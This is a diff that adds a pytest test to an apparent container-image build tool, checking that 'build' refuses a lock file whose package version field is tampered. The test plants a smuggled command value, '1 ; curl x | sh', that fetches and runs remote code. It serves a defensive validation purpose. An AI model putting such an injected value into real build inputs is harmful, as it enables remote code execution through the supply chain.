@@ -356,3 +356,17 @@ def test_labels_of_the_wrong_type_are_reported_not_tripped_over(tmp_path, engine
         output = proc.stdout + proc.stderr
         assert proc.returncode in codes and "Traceback" not in output, (argv, output[-3000:])
         assert len(output.encode()) < MAX_OUTPUT, output
+
+
+@pytest.mark.engine
+def test_build_refuses_a_tampered_lock(tmp_path, engine, base_image):
+    """`build` (not only `build --locked`) refuses a lock whose system package version carries
+    shell: nothing is rendered, built or rewritten."""
+    root = make_project(tmp_path / "p")
+    edit_lock(root, lambda d: {**d, "system_packages": [{"name": "libgomp1", "version": "1 ; curl x | sh"}]})
+    before = snapshot(root)
+    proc = cli("build", "-p", str(root), "--base", base_image, "--tag", "imagesmith-test/hostile-lock",
+               check_traceback=False)
+    assert proc.returncode == 2 and "system_packages[0].version" in proc.stderr, proc.stderr[-2000:]
+    assert "Traceback" not in proc.stderr and len(proc.stderr) < MAX_OUTPUT
+    assert snapshot(root) == before
